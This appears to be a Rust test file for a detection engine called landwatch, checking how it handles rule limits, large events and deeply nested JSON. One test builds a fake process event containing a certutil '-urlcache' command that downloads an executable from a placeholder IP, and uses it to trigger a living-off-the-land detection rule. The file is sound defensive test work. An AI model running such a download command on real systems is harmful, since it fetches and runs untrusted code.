//! Every bound of `landwatch::limits` is a clear error where it is hit, and
//! no bound is an evasion: a field is scanned to its end whatever its length.

use std::sync::Arc;

use landwatch::limits::{
    MAX_EVENT_BYTES, MAX_EVENT_DEPTH, MAX_PATTERNS_PER_RULE, MAX_PATTERN_BYTES, MAX_RULES, MAX_SOURCE_BYTES,
};
use landwatch::{EventError, Rules, RulesBuilder, Scanner};

const PAST: usize = 16 << 20;

/// A process event whose command line has `PAST` bytes of filler, then `tail`.
fn long_command_line(tail: &str) -> Vec<u8> {
    let mut cmd = String::with_capacity(PAST + 64);
    cmd.push_str("certutil ");
    while cmd.len() < PAST {
        cmd.push_str("xxxxxxxxxxxxxxx ");
    }
    let at = cmd.len();
    assert!(at >= PAST);
    cmd.push_str(tail);
    let event = serde_json::json!({
        "EventID": 1,
        "Image": "C:\\Windows\\System32\\certutil.exe",
        "CommandLine": cmd,
    });
    serde_json::to_vec(&event).unwrap()
}

fn rules(source: &str) -> Arc<Rules> {
    Arc::new(RulesBuilder::new().add_source("t.lw", source).build().unwrap())
}

#[test]
fn a_match_past_16_mb_of_command_line_still_fires_with_its_evidence() {
    let event = long_command_line("-urlcache -f http://198.51.100.7/needle.exe a.exe");
    let own = rules(
        "rule t.needle { title: \"needle\" level: high on: process when: CommandLine contains 'needle.exe' }",
    );
    let d = Scanner::new(own).scan_json(&event).unwrap();
    assert_eq!(d.len(), 1, "the DSL rule fires");
    let ev = &d[0].evidence[0];
    assert!(ev.start > PAST, "evidence at {} (past 16 MiB)", ev.start);
    assert_eq!(ev.matched, "needle.exe");

    let builtin = Arc::new(RulesBuilder::new().add_builtin().build().unwrap());
    let d = Scanner::new(builtin).scan_json(&event).unwrap();
    let hit = d.iter().find(|d| d.rule == "lotl.certutil_download").expect("the built-in certutil rule fires");
    let past: Vec<_> = hit.evidence.iter().filter(|e| e.start > PAST).map(|e| e.matched.as_str()).collect();
    assert!(past.contains(&"urlcache") && past.contains(&"http://"), "{:?}", hit.evidence);
}

#[test]
fn a_rule_source_past_the_bound_is_one_error_naming_the_file() {
    let text = " ".repeat(MAX_SOURCE_BYTES + 1);
    let e = landwatch::dsl::parse("big.lw", &text).unwrap_err();
    assert_eq!(e.0.len(), 1);
    assert_eq!((e.0[0].file.as_str(), e.0[0].line), ("big.lw", 1));
    assert!(e.0[0].message.contains("MAX_SOURCE_BYTES"), "{}", e.0[0].message);

    let loaded = landwatch::sigma::load("big.yml", &text);
    assert!(loaded.rules.is_empty());
    assert_eq!(loaded.rejected.len(), 1);
    assert!(loaded.rejected[0].reason.contains("MAX_SOURCE_BYTES"), "{}", loaded.rejected[0]);
    assert!(landwatch::sigma::placeholders(&text).unwrap_err().contains("MAX_SOURCE_BYTES"));
}

#[test]
fn a_rule_set_past_the_rule_count_is_an_error_at_the_first_rule_too_many() {
    let parsed = landwatch::dsl::parse("one.lw", "rule t.r { title: \"r\" level: low when: Image == 'a' }").unwrap();
    let (rule, origin) = parsed.rules[0].clone();
    let mut b = RulesBuilder::new();
    for i in 0..=MAX_RULES {
        let mut r = rule.clone();
        r.id = format!("t.r{i}");
        b = b.add_rule(r, origin.clone());
    }
    let e = b.build().unwrap_err();
    assert_eq!(e.0.len(), 1);
    assert_eq!(e.0[0].rule.as_deref(), Some(format!("t.r{MAX_RULES}").as_str()));
    assert!(e.0[0].message.contains("MAX_RULES"), "{}", e.0[0].message);
}

#[test]
fn patterns_past_the_count_or_length_are_errors_at_the_rule() {
    let many: Vec<String> = (0..=MAX_PATTERNS_PER_RULE).map(|i| format!("'p{i}'")).collect();
    let text = format!(
        "rule t.many {{ title: \"m\" level: low when: CommandLine contains any ({}) }}",
        many.join(", ")
    );
    let e = landwatch::dsl::parse("many.lw", &text).unwrap_err();
    assert_eq!(e.0[0].rule.as_deref(), Some("t.many"));
    assert!(e.0[0].message.contains("MAX_PATTERNS_PER_RULE"), "{}", e.0[0]);

    let long = "a".repeat(MAX_PATTERN_BYTES + 1);
    let text = format!("rule t.long {{ title: \"l\" level: low when: CommandLine contains '{long}' }}");
    let e = landwatch::dsl::parse("long.lw", &text).unwrap_err();
    assert_eq!((e.0[0].rule.as_deref(), e.0[0].line), (Some("t.long"), 1));
    assert!(e.0[0].message.contains("MAX_PATTERN_BYTES"), "{}", e.0[0].message);

    // At the bound, both load.
    let ok: Vec<String> = (0..MAX_PATTERNS_PER_RULE).map(|i| format!("'p{i}'")).collect();
    let text = format!("rule t.ok {{ title: \"o\" level: low when: CommandLine contains any ({}) }}", ok.join(", "));
    assert!(landwatch::dsl::parse("ok.lw", &text).is_ok());

    // The compiler checks rules given as ast the same way.
    let parsed = landwatch::dsl::parse("ok.lw", &text).unwrap();
    let (mut rule, origin) = parsed.rules[0].clone();
    if let landwatch::ast::Expr::Pred(p) = &mut rule.when {
        if let landwatch::ast::Op::Contains(_, pats) = &mut p.op {
            pats.push("one more".into());
        }
    }
    let e = RulesBuilder::new().add_rule(rule, origin).build().unwrap_err();
    assert!(e.0[0].message.contains("MAX_PATTERNS_PER_RULE"), "{}", e.0[0]);
}

#[test]
fn sigma_modifiers_that_multiply_values_are_bounded_by_the_pattern_count() {
    // 5,000 values, each in 5 dash forms and 3 base64 offsets: 75,000
    // patterns from a file of under 100 KiB.
    let values: String = (0..5000).map(|i| format!("      - '-o{i}'\n")).collect();
    let text = format!(
        "title: many\nid: 2d2d2d2d-0000-4000-8000-000000000000\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n  a:\n    CommandLine|windash|base64offset|contains:\n{values}  condition: a\n"
    );
    assert!(text.len() < 100 << 10);
    let loaded = landwatch::sigma::load("many.yml", &text);
    assert!(loaded.rules.is_empty());
    assert_eq!(loaded.rejected.len(), 1);
    let r = &loaded.rejected[0];
    assert_eq!((r.file.as_str(), r.rule.as_deref()), ("many.yml", Some("many")));
    assert!(r.reason.contains("MAX_PATTERNS_PER_RULE"), "{r}");
}

#[test]
fn a_regex_past_the_compiled_size_is_an_error_at_the_rule() {
    let text = r#"rule t.re { title: "re" level: low when: CommandLine matches '\w{1000}\w{1000}\w{1000}' }"#;
    let e = landwatch::dsl::parse("re.lw", text).unwrap_err();
    assert_eq!(e.0[0].rule.as_deref(), Some("t.re"));
    assert!(e.0[0].message.contains("size limit"), "{}", e.0[0].message);
}

/// `{"Image":"a.exe","a":{"a":...{"b":"deepvalue"}...}}`: the value `deepvalue`
/// is enclosed by `depth` objects.
fn nested(depth: usize) -> Vec<u8> {
    let mut s = String::from("{\"Image\":\"a.exe\",");
    for _ in 1..depth {
        s.push_str("\"a\":{");
    }
    s.push_str("\"b\":\"deepvalue\"");
    s.push_str(&"}".repeat(depth));
    s.into_bytes()
}

fn keywords(word: &str) -> Arc<Rules> {
    let yml = format!(
        "title: k\nid: 3e3e3e3e-0000-4000-8000-000000000000\nlogsource:\n  product: windows\ndetection:\n  keywords:\n    - '{word}'\n  condition: keywords\n"
    );
    Arc::new(RulesBuilder::new().add_sigma(landwatch::sigma::load("k.yml", &yml)).build().unwrap())
}

#[test]
fn a_deep_event_is_scanned_the_same_whatever_the_rules_read() {
    // One rule reads a field; the others every value (Sigma keywords, which
    // descend into all of them).
    let field = rules("rule t.f { title: \"f\" level: low when: Image == 'a.exe' }");
    for rules in [field, keywords("a.exe")] {
        let mut s = Scanner::new(rules);
        for depth in [MAX_EVENT_DEPTH, MAX_EVENT_DEPTH + 1, 300, 100_000] {
            assert_eq!(s.scan_json(&nested(depth)).unwrap().len(), 1, "depth {depth}: scanned");
        }
        assert_eq!(s.stats().rejected, 0);
    }
    // What lies deeper than the bound is not read; what lies at it is.
    let mut s = Scanner::new(keywords("deepvalue"));
    assert_eq!(s.scan_json(&nested(MAX_EVENT_DEPTH)).unwrap().len(), 1);
    assert!(s.scan_json(&nested(MAX_EVENT_DEPTH + 1)).unwrap().is_empty());
    // Arrays count as objects do, and brackets inside strings not at all.
    let arrays = format!("{{\"Image\":\"a.exe\",\"x\":{}\"deepvalue\"{}}}", "[".repeat(5000), "]".repeat(5000));
    assert!(s.scan_json(arrays.as_bytes()).unwrap().is_empty());
    let brackets = format!("{{\"Image\":\"a.exe\",\"x\":\"{}deepvalue\"}}", "[{".repeat(1000));
    assert_eq!(s.scan_json(brackets.as_bytes()).unwrap().len(), 1);
    assert_eq!(s.stats().rejected, 0);
}

#[test]
fn an_event_past_the_size_bound_is_a_counted_rejection_on_every_path() {
    let filler = "x".repeat(MAX_EVENT_BYTES);
    let big = format!("{{\"Image\":\"a.exe\",\"CommandLine\":\"{filler}\"}}");
    let mut s = Scanner::new(rules("rule t.f { title: \"f\" level: low when: Image == 'a.exe' }"));
    assert_eq!(s.scan_json(big.as_bytes()), Err(EventError::TooLarge(MAX_EVENT_BYTES)));
    assert_eq!(EventError::TooLarge(MAX_EVENT_BYTES).reason(), "too large");
    assert_eq!(s.stats().rejected, 1);

    // The JSON Lines reader keeps at most the bound of a line, skips the
    // rest of it, and reads on.
    struct Sink(Vec<(u64, String)>);
    impl landwatch::read::EventSink for Sink {
        fn event(&mut self, line: u64, json: &[u8]) {
            self.0.push((line, format!("event of {} bytes", json.len())));
        }
        fn skip(&mut self, line: u64, reason: &'static str, _: &dyn std::fmt::Display) {
            self.0.push((line, reason.to_string()));
        }
    }
    let input = format!("{{\"a\":1}}\n{big}\n{{\"b\":2}}\n");
    let mut sink = Sink(Vec::new());
    landwatch::read::read_json(input.as_bytes(), &mut sink).unwrap();
    assert_eq!(
        sink.0,
        [(1, "event of 8 bytes".into()), (2, "too large".into()), (3, "event of 8 bytes".into())]
    );
}

#[test]
fn placeholders_that_multiply_past_the_bound_are_a_rejection_naming_them() {
    let values: Vec<String> = (0..100).map(|i| format!("v{i}")).collect();
    let mut options = landwatch::sigma::Options::default();
    options.placeholders.insert("a".into(), values.clone());
    options.placeholders.insert("b".into(), values);
    let text = "title: p\nid: 4f4f4f4f-0000-4000-8000-000000000000\nlogsource:\n  product: windows\ndetection:\n  s:\n    CommandLine|expand: '%a%%b%'\n  condition: s\n";
    let loaded = landwatch::sigma::load_with("p.yml", text, &options);
    assert!(loaded.rules.is_empty());
    assert!(loaded.rejected[0].reason.contains("gives over 4096 values"), "{}", loaded.rejected[0]);
}
